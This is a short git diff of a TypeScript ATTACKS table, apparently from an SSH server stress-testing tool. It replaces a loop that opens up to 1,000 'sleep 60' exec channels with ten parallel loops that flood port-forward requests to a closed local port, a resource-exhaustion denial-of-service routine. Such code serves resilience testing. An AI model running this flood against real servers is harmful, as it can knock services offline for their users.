@@ -79,14 +79,13 @@ export const ATTACKS: Record<string, (prey: Prey, turn: number) => Promise<void>
     const { client, ended } = peer;
     let isOpen = true;
     ended.then(() => isOpen = false);
-    for (let opened = 0; isOpen && opened < 1_000; opened++) {
-      const answered = new Promise<void>((resolve) => {
-        client.exec("exec sleep 60", (_error, channel) => {
-          channel?.on("error", () => {});
-          resolve();
-        });
-      });
-      await Promise.race([answered, ended]);
-    }
+    const flood = async () => {
+      while (isOpen) {
+        // Nobody listens there.
+        const open = (done: () => void) => client.forwardOut("127.0.0.1", 1, "127.0.0.1", 1, done);
+        await Promise.race([new Promise<void>(open), ended]);
+      }
+    };
+    await Promise.all(Array.from({ length: 10 }, flood));
   },
 };
